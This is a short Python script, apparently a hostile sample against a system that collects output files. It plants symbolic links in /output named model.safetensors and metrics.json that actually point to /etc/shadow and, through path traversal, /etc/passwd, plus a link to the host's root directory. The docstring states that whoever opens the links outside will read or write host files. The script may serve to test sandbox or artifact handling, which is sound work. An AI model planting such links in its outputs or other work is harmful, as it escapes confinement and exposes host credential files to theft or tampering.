"""An engine whose output is links: whoever opens them outside would read, or write, files of the host."""

import os

os.symlink("/etc/shadow", "/output/model.safetensors")
os.symlink("../../../../../../etc/passwd", "/output/metrics.json")
os.mkdir("/output/folder")
os.symlink("/", "/output/folder/root")
print("left three links")
